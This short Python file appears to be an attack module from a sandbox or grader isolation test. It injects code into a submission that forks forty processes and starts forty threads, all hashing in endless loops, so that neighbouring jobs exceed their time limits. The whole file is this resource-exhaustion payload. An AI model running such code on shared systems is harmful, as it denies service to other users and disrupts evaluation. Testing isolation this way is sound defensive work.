"""Has forty children and as many threads compute at once, so that a neighbour's time limit passes before it
gets its turn."""

CODE = r"""
import os, threading, hashlib


def burn():
    while True:
        hashlib.sha256(bytes(1 << 20)).digest()


for _ in range(40):
    if os.fork() == 0:
        reached()
        burn()
for _ in range(40):
    threading.Thread(target=burn, daemon=True).start()
burn()
"""


def attack(submission):
    submission.add(submission.bait.cell(CODE))
